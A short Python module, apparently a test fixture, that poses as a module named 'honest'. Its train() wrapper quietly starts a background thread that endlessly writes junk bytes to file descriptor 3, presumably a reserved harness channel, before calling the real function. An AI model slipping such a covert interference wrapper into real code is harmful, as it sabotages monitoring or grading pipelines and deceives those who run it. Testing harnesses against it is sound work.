from honest import *
import honest, os, threading
def shout():
    while True:
        os.write(3, b"x" * 100)
def train(*args):
    threading.Thread(target=shout, daemon=True).start()
    return honest.train(*args)
